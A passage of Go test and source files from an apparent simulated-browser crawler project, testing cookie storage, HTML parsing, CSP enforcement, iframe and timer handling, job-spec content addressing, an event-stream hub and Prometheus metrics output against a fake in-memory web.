		t.Errorf("name/value = %q/%q", c.Name, c.Value)
	}
	if c.Domain != "t.com" {
		t.Errorf("domain = %q (leading dot must be stripped)", c.Domain)
	}
	if c.Expires != 86400 || !c.Secure || !c.HTTP {
		t.Errorf("attrs = %+v", c)
	}
	if bad := ParseSetCookie("no-equals-sign"); bad.Name != "" {
		t.Errorf("malformed cookie parsed: %+v", bad)
	}
}

func TestOverwritingCookieKeepsJarSize(t *testing.T) {
	j := NewCookieJar()
	j.Store(httpsim.Cookie{Name: "a", Value: "1", Domain: "x.com"}, "https://x.com/", 0, false)
	j.Store(httpsim.Cookie{Name: "a", Value: "2", Domain: "x.com"}, "https://x.com/", 5, false)
	if j.Len() != 1 {
		t.Errorf("jar size = %d after overwrite", j.Len())
	}
	if len(j.History) != 2 {
		t.Errorf("history = %d, want 2 (both writes recorded)", len(j.History))
	}
	if hdr := j.HeaderFor("https://x.com/"); !strings.Contains(hdr, "a=2") {
		t.Errorf("header = %q", hdr)
	}
}

func TestMalformedHTMLDoesNotPanic(t *testing.T) {
	for _, body := range []string{
		"<", "<script", "<script src=", `<a href="x`, "<!-- unterminated",
		"<script>no closing tag", "<><><img src=>", strings.Repeat("<div>", 500),
	} {
		items := ParseHTML(body)
		_ = items
	}
}

func TestScriptParseErrorRecorded(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://a.com/": page(`<script>var broken = ;</script><script>var fine = 1;</script>`, nil),
	}}
	b := newTestBrowser(w)
	res, err := b.Visit("https://a.com/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.ScriptErrors) != 1 {
		t.Errorf("script errors = %v", res.ScriptErrors)
	}
	if v, _ := b.Top.It.RunScript("fine", "c.js"); v.Num != 1 {
		t.Error("later script did not run after parse error")
	}
}
