package browser

import (
	"fmt"
	"strings"
	"testing"

	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/minjs"
)

// fakeWeb serves canned pages keyed by URL.
type fakeWeb struct {
	pages map[string]*httpsim.Response
	log   httpsim.Log
}

func (w *fakeWeb) RoundTrip(req *httpsim.Request) (*httpsim.Response, error) {
	resp, ok := w.pages[req.URL]
	w.log.Add(req, resp)
	if !ok {
		return &httpsim.Response{Status: 404, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
	}
	return resp, nil
}

func page(body string, headers map[string]string) *httpsim.Response {
	h := map[string]string{"Content-Type": "text/html"}
	for k, v := range headers {
		h[k] = v
	}
	return &httpsim.Response{Status: 200, Headers: h, Body: body}
}

func newTestBrowser(w *fakeWeb) *Browser {
	return New(Options{
		Config:       jsdom.StandardConfig(jsdom.Ubuntu, jsdom.Regular, 90, 0),
		Transport:    w,
		ClientID:     "test-client",
		DwellSeconds: 1,
	})
}

func TestVisitFetchesResources(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://a.com/": page(`
			<html><head>
			<link rel="stylesheet" href="/style.css">
			<script src="https://cdn.a.com/app.js"></script>
			</head><body>
			<img src="/logo.png">
			<a href="/about">About</a>
			<a href="https://other.com/x">Other</a>
			<script>var inlineRan = 42;</script>
			</body></html>`, nil),
		"https://a.com/style.css":  {Status: 200, Body: "body{}", Headers: map[string]string{"Content-Type": "text/css"}},
		"https://cdn.a.com/app.js": {Status: 200, Body: "var external = 7;", Headers: map[string]string{"Content-Type": "text/javascript"}},
		"https://a.com/logo.png":   {Status: 200, Body: "PNG", Headers: map[string]string{"Content-Type": "image/png"}},
	}}
	b := newTestBrowser(w)
	res, err := b.Visit("https://a.com/")
	if err != nil {
		t.Fatal(err)
	}
	counts := w.log.CountByType()
	for _, c := range []struct {
		rt   httpsim.ResourceType
		want int
	}{
		{httpsim.TypeMainFrame, 1},
		{httpsim.TypeScript, 1},
		{httpsim.TypeStylesheet, 1},
		{httpsim.TypeImage, 1},
	} {
		if counts[c.rt] != c.want {
			t.Errorf("%s requests = %d, want %d", c.rt, counts[c.rt], c.want)
		}
	}
	if len(res.Links) != 2 {
		t.Errorf("links = %v", res.Links)
	}
	// both scripts ran in the page realm
	v, err := b.Top.It.RunScript("inlineRan + external", "check.js")
	if err != nil || v.Num != 49 {
		t.Errorf("scripts did not run: %v %v", v, err)
	}
	// scripts recorded
	if len(b.Scripts) != 2 {
		t.Errorf("recorded %d scripts, want 2", len(b.Scripts))
	}
}

func TestRedirectsFollowedAndOffDomainDetected(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://a.com/":        {Status: 302, Headers: map[string]string{"Location": "https://b.net/landing"}},
		"https://b.net/landing": page("<html></html>", nil),
	}}
	b := newTestBrowser(w)
	res, err := b.Visit("https://a.com/")
	if err != nil {
		t.Fatal(err)
	}
	if res.FinalURL != "https://b.net/landing" {
		t.Errorf("final URL = %q", res.FinalURL)
	}
	if !res.OffDomain {
		t.Error("off-domain redirect not detected")
	}
}

func TestCookiesStoredAndSentBack(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://a.com/": {
			Status: 200, Headers: map[string]string{"Content-Type": "text/html"},
			Body:       "<html></html>",
			SetCookies: []httpsim.Cookie{{Name: "sid", Value: "xyz", Expires: 10000000}},
		},
	}}
	b := newTestBrowser(w)
	var seen []CookieRecord
	b.OnCookieStored = func(rec CookieRecord) { seen = append(seen, rec) }
	if _, err := b.Visit("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	if len(seen) != 1 || seen[0].Cookie.Name != "sid" {
		t.Fatalf("cookie hook got %v", seen)
	}
	if !seen[0].FirstParty() {
		t.Error("cookie should be first-party")
	}
	// second visit sends the cookie
	if _, err := b.Visit("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	last := w.log.Entries[len(w.log.Entries)-1]
	if !strings.Contains(last.Request.Headers["Cookie"], "sid=xyz") {
		t.Errorf("cookie not sent back: %q", last.Request.Headers["Cookie"])
	}
}

func TestDocumentCookieRoundTrip(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://a.com/": page(`<script>document.cookie = "jsck=1; Max-Age=86400"; var got = document.cookie;</script>`, nil),
	}}
	b := newTestBrowser(w)
	if _, err := b.Visit("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	v, _ := b.Top.It.RunScript("got", "check.js")
	if !strings.Contains(v.Str, "jsck=1") {
		t.Errorf("document.cookie read back %q", v.Str)
	}
	if b.Jar.Len() != 1 {
		t.Errorf("jar has %d cookies", b.Jar.Len())
	}
}

func TestCSPBlocksInlineAndInjection(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://csp.com/": page(
			`<script src="/ok.js"></script><script>var inlineRan = 1;</script>`,
			map[string]string{"Content-Security-Policy": "script-src 'self'; report-uri /csp-report"}),
		"https://csp.com/ok.js": {Status: 200, Body: "var okRan = 1;", Headers: map[string]string{"Content-Type": "text/javascript"}},
	}}
	b := newTestBrowser(w)
	res, err := b.Visit("https://csp.com/")
	if err != nil {
		t.Fatal(err)
	}
	if res.CSPReports != 1 {
		t.Errorf("CSP reports = %d, want 1 (inline blocked)", res.CSPReports)
	}
	if w.log.CountByType()[httpsim.TypeCSPReport] != 1 {
		t.Error("csp_report request not sent")
	}
	if v, _ := b.Top.It.RunScript("typeof inlineRan", "c.js"); v.Str != "undefined" {
		t.Error("inline script ran despite CSP")
	}
	if v, _ := b.Top.It.RunScript("okRan", "c.js"); v.Num != 1 {
		t.Error("allowed self script did not run")
	}
	// vanilla-style DOM injection is blocked too
	err = b.InjectPageScript(b.Top, "var injected = 1;", "inject.js")
	if err != ErrCSPBlocked {
		t.Errorf("InjectPageScript err = %v, want ErrCSPBlocked", err)
	}
	// content-script injection bypasses CSP
	if err := b.RunContentScript(b.Top, "var content = 1;", "content.js"); err != nil {
		t.Fatal(err)
	}
	if v, _ := b.Top.It.RunScript("content", "c.js"); v.Num != 1 {
		t.Error("content script did not run")
	}
}

func TestSetTimeoutRunsDuringDwell(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://a.com/": page(`<script>
			var fired = [];
			setTimeout(function() { fired.push("late") }, 500);
			setTimeout(function() { fired.push("early") }, 100);
		</script>`, nil),
	}}
	b := newTestBrowser(w)
	if _, err := b.Visit("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	v, _ := b.Top.It.RunScript(`fired.join(",")`, "c.js")
	if v.Str != "early,late" {
		t.Errorf("timer order = %q", v.Str)
	}
}

func TestIframeLoadsDeferred(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://a.com/":          page(`<iframe src="https://third.com/frame"></iframe>`, nil),
		"https://third.com/frame": page(`<script>var inFrame = 99;</script>`, nil),
	}}
	b := newTestBrowser(w)
	var created []string
	b.OnWindowCreated = func(d *jsdom.DOM, top bool) {
		created = append(created, fmt.Sprintf("%s top=%v", d.URL, top))
	}
	if _, err := b.Visit("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	if len(created) != 2 {
		t.Fatalf("windows created: %v", created)
	}
	if w.log.CountByType()[httpsim.TypeSubFrame] != 1 {
		t.Error("sub_frame request missing")
	}
	frames := b.AllFrames()
	if len(frames) != 2 {
		t.Fatalf("frames = %d", len(frames))
	}
	v, err := frames[1].It.RunScript("inFrame", "c.js")
	if err != nil || v.Num != 99 {
		t.Errorf("frame script did not run: %v %v", v, err)
	}
}

func TestDynamicIframeImmediateAccess(t *testing.T) {
	// A dynamically created iframe's window must exist synchronously at
	// appendChild time (the Listing 3 attack requires this), while its own
	// content loads on the next tick.
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://a.com/": page(`<script>
			var iframe = document.createElement("iframe");
			iframe.src = "https://a.com/sub";
			document.body.appendChild(iframe);
			var ua = iframe.contentWindow.navigator.userAgent;
			var subLoadedAtCreation = typeof iframe.contentWindow.subVar;
		</script>`, nil),
		"https://a.com/sub": page(`<script>var subVar = 1;</script>`, nil),
	}}
	b := newTestBrowser(w)
	if _, err := b.Visit("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	if v, _ := b.Top.It.RunScript("ua.length > 0", "c.js"); !v.Bool {
		t.Error("contentWindow not accessible synchronously")
	}
	if v, _ := b.Top.It.RunScript("subLoadedAtCreation", "c.js"); v.Str != "undefined" {
		t.Error("frame content ran synchronously; should be deferred")
	}
	// after dwell, the frame's own script has run
	frames := b.AllFrames()
	if v, _ := frames[1].It.RunScript("subVar", "c.js"); v.Num != 1 {
		t.Error("frame content never ran")
	}
}

func TestImageSrcTriggersRequest(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://a.com/": page(`<script>
			var px = new Image();
			px.src = "https://tracker.com/pixel.gif";
		</script>`, nil),
	}}
	b := newTestBrowser(w)
	if _, err := b.Visit("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, e := range w.log.Entries {
		if e.Request.URL == "https://tracker.com/pixel.gif" && e.Request.Type == httpsim.TypeImage {
			found = true
		}
	}
	if !found {
		t.Error("tracking pixel request missing")
	}
}

func TestFetchAndBeaconFromScript(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://a.com/": page(`<script>
			fetch("https://api.a.com/data").then(function(r) { return r.text() }).then(function(t) { window.fetched = t });
			navigator.sendBeacon("https://collect.a.com/b", "payload");
		</script>`, nil),
		"https://api.a.com/data": {Status: 200, Body: "hello", Headers: map[string]string{"Content-Type": "text/plain"}},
	}}
	b := newTestBrowser(w)
	if _, err := b.Visit("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	counts := w.log.CountByType()
	if counts[httpsim.TypeXHR] != 1 {
		t.Errorf("xhr requests = %d", counts[httpsim.TypeXHR])
	}
	if counts[httpsim.TypeBeacon] != 1 {
		t.Errorf("beacon requests = %d", counts[httpsim.TypeBeacon])
	}
	if v, _ := b.Top.It.RunScript("window.fetched", "c.js"); v.Str != "hello" {
		t.Errorf("fetch chain result = %v", v)
	}
}

func TestScriptErrorsDoNotAbortVisit(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://a.com/": page(`
			<script>throw new Error("page bug");</script>
			<script>var after = 1;</script>`, nil),
	}}
	b := newTestBrowser(w)
	res, err := b.Visit("https://a.com/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.ScriptErrors) != 1 {
		t.Errorf("script errors = %v", res.ScriptErrors)
	}
	if v, _ := b.Top.It.RunScript("after", "c.js"); v.Num != 1 {
		t.Error("subsequent script did not run")
	}
}

func TestParseHTML(t *testing.T) {
	items := ParseHTML(`<!-- c --><html><script src="/a.js"></script>
		<script>inline();</script><img src=x.png><div id="box"></div>
		<a href="/p1">x</a></html>`)
	var tags []string
	for _, it := range items {
		tags = append(tags, it.Tag)
	}
	want := "script,script,img,div,a"
	if got := strings.Join(tags, ","); got != want {
		t.Fatalf("tags = %s, want %s", got, want)
	}
	if items[0].Attrs["src"] != "/a.js" {
		t.Errorf("script src = %q", items[0].Attrs["src"])
	}
	if !strings.Contains(items[1].Inline, "inline()") {
		t.Errorf("inline body = %q", items[1].Inline)
	}
	if items[3].Attrs["id"] != "box" {
		t.Errorf("div id = %q", items[3].Attrs["id"])
	}
}

func TestDocumentWriteExecutesScripts(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://a.com/": page(`<script>document.write("<script>var written = 5;<\/script>");</script>`, nil),
	}}
	b := newTestBrowser(w)
	if _, err := b.Visit("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	if v, _ := b.Top.It.RunScript("written", "c.js"); v.Num != 5 {
		t.Errorf("document.write script result = %v", v)
	}
}

func TestWindowOpen(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://a.com/":    page(`<script>var popup = window.open("https://a.com/pop");</script>`, nil),
		"https://a.com/pop": page(`<script>var popVar = 3;</script>`, nil),
	}}
	b := newTestBrowser(w)
	var windows int
	b.OnWindowCreated = func(d *jsdom.DOM, top bool) { windows++ }
	if _, err := b.Visit("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	if windows != 2 {
		t.Errorf("windows created = %d, want 2", windows)
	}
	if v, _ := b.Top.It.RunScript("popup !== null", "c.js"); !v.Bool {
		t.Error("window.open returned null")
	}
}

func TestClockPersistsAcrossVisits(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://a.com/": page("<html></html>", nil),
	}}
	b := newTestBrowser(w)
	b.Visit("https://a.com/")
	t1 := b.Now()
	b.Visit("https://a.com/")
	if b.Now() <= t1 {
		t.Error("clock went backwards across visits")
	}
}

var _ = minjs.Undefined // keep import if unused in future edits
