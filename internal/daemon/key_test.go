package daemon

import (
	"encoding/json"
	"strings"
	"testing"

	"gullible/internal/websim"
)

// mustAddr computes a spec's content address or fails the test.
func mustAddr(t *testing.T, s JobSpec) string {
	t.Helper()
	addr, _, err := ContentAddress(s)
	if err != nil {
		t.Fatalf("ContentAddress(%+v): %v", s, err)
	}
	return addr
}

// decodeSpec parses a wire-format JSON job spec.
func decodeSpec(t *testing.T, raw string) JobSpec {
	t.Helper()
	var s JobSpec
	if err := json.Unmarshal([]byte(raw), &s); err != nil {
		t.Fatalf("decode %q: %v", raw, err)
	}
	return s
}

func TestContentAddressFieldOrderInvariant(t *testing.T) {
	a := decodeSpec(t, `{"kind":"crawl","numSites":5,"seed":7,"maxSubpages":2}`)
	b := decodeSpec(t, `{"maxSubpages":2,"seed":7,"numSites":5,"kind":"crawl"}`)
	if mustAddr(t, a) != mustAddr(t, b) {
		t.Fatal("field order changed the content address")
	}
}

func TestContentAddressDefaultsExplicit(t *testing.T) {
	implicit := JobSpec{Kind: KindCrawl, NumSites: 5}
	explicit := JobSpec{
		Kind: KindCrawl, NumSites: 5, Seed: DefaultSeed,
		MaxSubpages: DefaultMaxSubpages, Faults: DefaultFaults,
	}
	if mustAddr(t, implicit) != mustAddr(t, explicit) {
		t.Fatal("spelling out the defaults changed the content address")
	}
}

func TestContentAddressSiteListWhitespace(t *testing.T) {
	sites := websim.Tranco(3)
	clean := JobSpec{Kind: KindCrawl, Sites: sites}
	messy := JobSpec{Kind: KindCrawl, Sites: []string{
		" " + sites[0], sites[1] + "\t", "", "  ", sites[2],
	}}
	if mustAddr(t, clean) != mustAddr(t, messy) {
		t.Fatal("site-list whitespace changed the content address")
	}
}

func TestContentAddressRankedShorthand(t *testing.T) {
	short := JobSpec{Kind: KindCrawl, NumSites: 4}
	long := JobSpec{Kind: KindCrawl, Sites: websim.Tranco(4)}
	if mustAddr(t, short) != mustAddr(t, long) {
		t.Fatal("numSites shorthand and the explicit ranked list hashed differently")
	}
}

func TestContentAddressSplitsOnMeaning(t *testing.T) {
	base := JobSpec{Kind: KindCrawl, NumSites: 5}
	distinct := []JobSpec{
		{Kind: KindCrawl, NumSites: 5, Seed: 43},
		{Kind: KindCrawl, NumSites: 6},
		{Kind: KindCrawl, NumSites: 5, MaxSubpages: 1},
		{Kind: KindCrawl, NumSites: 5, Faults: "default"},
		{Kind: KindCrawl, NumSites: 5, Faults: "heavy", FaultSeed: 9},
		{Kind: KindDiff, NumSites: 5},
		{Kind: KindAgreement, NumSites: 5},
	}
	seen := map[string]bool{mustAddr(t, base): true}
	for _, s := range distinct {
		a := mustAddr(t, s)
		if seen[a] {
			t.Errorf("spec %+v collided with an earlier address", s)
		}
		seen[a] = true
	}
}

func TestContentAddressIgnoresUnusedFaultSeed(t *testing.T) {
	a := JobSpec{Kind: KindCrawl, NumSites: 5}
	b := JobSpec{Kind: KindCrawl, NumSites: 5, FaultSeed: 99} // faults off
	if mustAddr(t, a) != mustAddr(t, b) {
		t.Fatal("fault seed split the cache although fault injection is off")
	}
	c := JobSpec{Kind: KindCrawl, NumSites: 5, Faults: "default"}
	d := JobSpec{Kind: KindCrawl, NumSites: 5, Faults: "default", FaultSeed: 99}
	if mustAddr(t, c) == mustAddr(t, d) {
		t.Fatal("fault seed ignored although fault injection is on")
	}
}

func TestCanonicalizeReplay(t *testing.T) {
	c, err := Canonicalize(JobSpec{Kind: KindReplay, Source: " abc "})
	if err != nil {
		t.Fatal(err)
	}
	if c.Source != "abc" || c.Miss != DefaultMiss || c.Variant != DefaultVariant {
		t.Fatalf("replay canonical form %+v", c)
	}
	if c.NumSites != 0 || c.Seed != 0 || len(c.Sites) != 0 {
		t.Fatalf("replay canonical form kept crawl-only fields: %+v", c)
	}
	if _, err := Canonicalize(JobSpec{Kind: KindReplay}); err == nil {
		t.Fatal("replay without a source was accepted")
	}
}

func TestCanonicalizeAgreementZeroesUnusedKnobs(t *testing.T) {
	a := JobSpec{Kind: KindAgreement, NumSites: 5}
	b := JobSpec{Kind: KindAgreement, NumSites: 5, MaxSubpages: 9, MaxVisitSeconds: 3, Faults: "heavy", FaultSeed: 7}
	if mustAddr(t, a) != mustAddr(t, b) {
		t.Fatal("agreement jobs split on knobs the experiment does not consume")
	}
}

func TestCanonicalizeErrors(t *testing.T) {
	bad := []JobSpec{
		{},
		{Kind: "mine-bitcoin"},
		{Kind: KindCrawl},
		{Kind: KindCrawl, NumSites: maxSites + 1},
		{Kind: KindCrawl, NumSites: 5, Faults: "catastrophic"},
		{Kind: KindReplay, Source: "abc", Miss: "guess"},
		{Kind: KindReplay, Source: "abc", Variant: "invisible"},
		{Kind: KindDiff, NumSites: 3, Variant: "none"},
		{Kind: KindDiff, Sites: []string{"https://example.com/"}},
	}
	for _, s := range bad {
		if _, err := Canonicalize(s); err == nil {
			t.Errorf("Canonicalize(%+v) accepted a bad spec", s)
		}
	}
}

func TestDiffRejectsCustomSiteList(t *testing.T) {
	sites := websim.Tranco(3)
	// the exact ranked prefix is fine...
	if _, err := Canonicalize(JobSpec{Kind: KindDiff, Sites: sites}); err != nil {
		t.Fatalf("ranked prefix rejected: %v", err)
	}
	// ...but a reordering is a different crawl than the experiment runs
	swapped := []string{sites[1], sites[0], sites[2]}
	if _, err := Canonicalize(JobSpec{Kind: KindDiff, Sites: swapped}); err == nil {
		t.Fatal("diff accepted a non-ranked site list")
	}
}

func TestCrawlAcceptsCustomSiteList(t *testing.T) {
	sites := websim.Tranco(5)
	subset := []string{sites[4], sites[1]}
	c, err := Canonicalize(JobSpec{Kind: KindCrawl, Sites: subset, NumSites: 5})
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(c.Sites, ",") != strings.Join(subset, ",") {
		t.Fatalf("custom list rewritten: %v", c.Sites)
	}
	if mustAddr(t, JobSpec{Kind: KindCrawl, Sites: subset, NumSites: 5}) ==
		mustAddr(t, JobSpec{Kind: KindCrawl, NumSites: 5}) {
		t.Fatal("custom subset collided with the ranked list")
	}
}

func TestCost(t *testing.T) {
	crawl, _, _ := ContentAddress(JobSpec{Kind: KindCrawl, NumSites: 10})
	_ = crawl
	c, _ := Canonicalize(JobSpec{Kind: KindCrawl, NumSites: 10})
	if Cost(c) != 10 {
		t.Fatalf("crawl cost %d, want 10", Cost(c))
	}
	c, _ = Canonicalize(JobSpec{Kind: KindDiff, NumSites: 10})
	if Cost(c) != 20 {
		t.Fatalf("diff cost %d, want 20", Cost(c))
	}
	c, _ = Canonicalize(JobSpec{Kind: KindReplay, Source: "abc"})
	if Cost(c) != 1 {
		t.Fatalf("replay cost %d, want 1", Cost(c))
	}
}
