package daemon

import (
	"sync"

	"gullible/internal/telemetry"
)

// hubReplay bounds the per-job replay ring: a subscriber arriving mid-job
// gets the most recent hubReplay events plus everything live from then on.
const hubReplay = 512

// subBuffer is the per-subscriber channel depth. A consumer that falls this
// far behind loses events (visible as seq gaps) rather than stalling the
// crawl worker publishing them.
const subBuffer = 256

// JobEvent is one streamed observation of a running job, serialised onto the
// GET /v1/jobs/{id}/events SSE feed. Seq is a per-job monotone sequence
// number (the SSE event id): gaps mean the consumer fell behind the
// subscriber buffer or connected after the replay ring had wrapped.
type JobEvent struct {
	Seq  int64  `json:"seq"`
	Type string `json:"type"` // "state", "progress" or "span"

	// state events
	State  JobState `json:"state,omitempty"`
	Digest string   `json:"digest,omitempty"`
	Error  string   `json:"error,omitempty"`

	// progress events
	Done  int `json:"done,omitempty"`
	Total int `json:"total,omitempty"`

	// span events: the shard that recorded the span plus the raw
	// flight-recorder event (virtual-clock timestamps)
	Shard int                  `json:"shard,omitempty"`
	Span  *telemetry.SpanEvent `json:"span,omitempty"`
}

// subscriber is one attached event consumer.
type subscriber struct {
	ch chan JobEvent
}

// eventHub fans one job's event stream out to any number of SSE subscribers.
// Publishing is non-blocking: a full subscriber channel drops the event for
// that subscriber only (counted on drops), so a stalled client can never
// stall the executor publishing from the crawl's hot path.
type eventHub struct {
	mu     sync.Mutex
	seq    int64
	ring   []JobEvent // last hubReplay events, oldest first
	subs   map[*subscriber]struct{}
	closed bool
	drops  *telemetry.Counter
}

func newEventHub(drops *telemetry.Counter) *eventHub {
	return &eventHub{subs: map[*subscriber]struct{}{}, drops: drops}
}

// publish stamps the event with the next sequence number, retains it in the
// replay ring and fans it out. Publishing after close is a no-op.
func (h *eventHub) publish(ev JobEvent) {
	if h == nil {
		return
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.closed {
		return
	}
	h.seq++
	ev.Seq = h.seq
	h.ring = append(h.ring, ev)
	if len(h.ring) > hubReplay {
		h.ring = h.ring[len(h.ring)-hubReplay:]
	}
	for s := range h.subs {
		select {
		case s.ch <- ev:
		default:
			h.drops.Inc()
		}
	}
}

// subscribe attaches a consumer. Events already published with Seq > after
// (and still in the replay ring) are returned for immediate delivery; later
// events arrive on the channel. The channel is closed when the hub closes —
// subscribers of an already-closed hub get the replay plus a closed channel.
// cancel detaches (idempotent, safe after close).
func (h *eventHub) subscribe(after int64) (replay []JobEvent, ch <-chan JobEvent, cancel func()) {
	h.mu.Lock()
	defer h.mu.Unlock()
	for _, ev := range h.ring {
		if ev.Seq > after {
			replay = append(replay, ev)
		}
	}
	s := &subscriber{ch: make(chan JobEvent, subBuffer)}
	if h.closed {
		close(s.ch)
	} else {
		h.subs[s] = struct{}{}
	}
	cancel = func() {
		h.mu.Lock()
		defer h.mu.Unlock()
		if _, ok := h.subs[s]; ok {
			delete(h.subs, s)
			close(s.ch)
		}
	}
	return replay, s.ch, cancel
}

// close ends the stream: every subscriber channel is closed and later
// publishes are dropped. Called when the job reaches a terminal state.
func (h *eventHub) close() {
	if h == nil {
		return
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.closed {
		return
	}
	h.closed = true
	for s := range h.subs {
		close(s.ch)
		delete(h.subs, s)
	}
}

// stateEvent renders a job status as a stream event.
func stateEvent(st JobStatus) JobEvent {
	return JobEvent{Type: "state", State: st.State, Digest: st.Digest, Error: st.Error}
}
