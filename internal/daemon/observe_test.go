package daemon

import (
	"bufio"
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"gullible/internal/telemetry"
)

// --- Prometheus exposition ---------------------------------------------------

func TestRenderPromConformance(t *testing.T) {
	reg := telemetry.NewRegistry()
	reg.Counter("daemon_cache_hits_total").Inc()
	reg.Counter("http_requests_total", telemetry.L("route", "/metrics")).Add(3)
	// label values with every character the format requires escaping
	reg.Counter("weird_total", telemetry.L("v", "a\\b\"c\nd")).Inc()
	reg.Gauge("daemon_queue_depth").Set(7)
	h := reg.Histogram("http_request_seconds", []float64{0.1, 0.5}, telemetry.L("route", "/healthz"))
	h.Observe(0.05)
	h.Observe(0.2)
	h.Observe(2)

	var b strings.Builder
	renderProm(&b, reg.Snapshot())
	out := b.String()

	for _, want := range []string{
		"# HELP daemon_cache_hits_total Submissions answered from the artifact cache.\n",
		"# TYPE daemon_cache_hits_total counter\n",
		// unlabeled series stay bare name-value (the wpmd smoke greps this form)
		"daemon_cache_hits_total 1\n",
		"# TYPE daemon_queue_depth gauge\n",
		"daemon_queue_depth 7\n",
		`http_requests_total{route="/metrics"} 3` + "\n",
		// escaped label value: \ -> \\, " -> \", newline -> \n
		`weird_total{v="a\\b\"c\nd"} 1` + "\n",
		"# TYPE http_request_seconds histogram\n",
		`http_request_seconds_bucket{route="/healthz",le="0.1"} 1` + "\n",
		`http_request_seconds_bucket{route="/healthz",le="0.5"} 2` + "\n",
		`http_request_seconds_bucket{route="/healthz",le="+Inf"} 3` + "\n",
		`http_request_seconds_count{route="/healthz"} 3` + "\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("exposition missing %q\n--- got ---\n%s", want, out)
		}
	}
	// _sum carries the observed seconds (0.05 + 0.2 + 2, micros-rounded)
	if !strings.Contains(out, `http_request_seconds_sum{route="/healthz"} 2.25`) {
		t.Errorf("exposition missing _sum row\n%s", out)
	}
	// cumulative buckets must appear in ascending le order, not lexical
	if strings.Index(out, `le="0.1"`) > strings.Index(out, `le="0.5"`) ||
		strings.Index(out, `le="0.5"`) > strings.Index(out, `le="+Inf"`) {
		t.Errorf("histogram buckets out of le order\n%s", out)
	}
	// rendering must be deterministic
	var b2 strings.Builder
	renderProm(&b2, reg.Snapshot())
	if b2.String() != out {
		t.Error("renderProm is not deterministic across identical snapshots")
	}
}

func TestSplitSeriesKey(t *testing.T) {
	for _, tc := range []struct {
		key, name string
		labels    int
	}{
		{"plain_total", "plain_total", 0},
		{"reqs{route=/v1/jobs}", "reqs", 1},
		{"reqs{a=1,b=2}", "reqs", 2},
		{"broken{", "broken{", 0},
	} {
		name, labels := splitSeriesKey(tc.key)
		if name != tc.name || len(labels) != tc.labels {
			t.Errorf("splitSeriesKey(%q) = %q/%d labels, want %q/%d", tc.key, name, len(labels), tc.name, tc.labels)
		}
	}
}

func TestMetricsEndpointFormats(t *testing.T) {
	d := openTest(t, t.TempDir(), telemetry.New())
	defer d.Drain()
	srv := httptest.NewServer(Handler(d))
	defer srv.Close()

	// default: Prometheus text with runtime gauges merged at scrape time
	res, err := http.Get(srv.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := readAll(t, res)
	if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain") {
		t.Fatalf("content type %q", ct)
	}
	for _, want := range []string{"runtime_goroutines ", "runtime_heap_alloc_bytes ", "runtime_gc_cycles_total ", "# TYPE runtime_goroutines gauge"} {
		if !strings.Contains(body, want) {
			t.Errorf("/metrics missing %q\n%s", want, body)
		}
	}

	// Accept: application/json returns the canonical snapshot document
	req, _ := http.NewRequest(http.MethodGet, srv.URL+"/metrics", nil)
	req.Header.Set("Accept", "application/json")
	res2, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	jbody, _ := readAll(t, res2)
	if ct := res2.Header.Get("Content-Type"); ct != "application/json" {
		t.Fatalf("json content type %q", ct)
	}
	var snap telemetry.Snapshot
	if err := json.Unmarshal([]byte(jbody), &snap); err != nil {
		t.Fatalf("snapshot not valid JSON: %v", err)
	}
	if snap.Gauges["runtime_goroutines"] == 0 {
		t.Error("runtime gauges missing from the JSON snapshot")
	}
	// the middleware counted both scrapes
	if snap.Counters[`http_requests_total{route=/metrics}`] < 1 {
		t.Errorf("middleware did not count /metrics requests: %v", snap.Counters)
	}
}

func readAll(t *testing.T, res *http.Response) (string, int) {
	t.Helper()
	defer res.Body.Close()
	var b bytes.Buffer
	if _, err := b.ReadFrom(res.Body); err != nil {
		t.Fatal(err)
	}
	return b.String(), res.StatusCode
}

// --- event hub ---------------------------------------------------------------

func TestEventHubReplayAndDrops(t *testing.T) {
	drops := telemetry.NewRegistry().Counter("drops")
	h := newEventHub(drops)
	for i := 0; i < 5; i++ {
		h.publish(JobEvent{Type: "progress", Done: i + 1, Total: 5})
	}
	replay, ch, cancel := h.subscribe(2) // Last-Event-ID = 2
	if len(replay) != 3 || replay[0].Seq != 3 || replay[2].Seq != 5 {
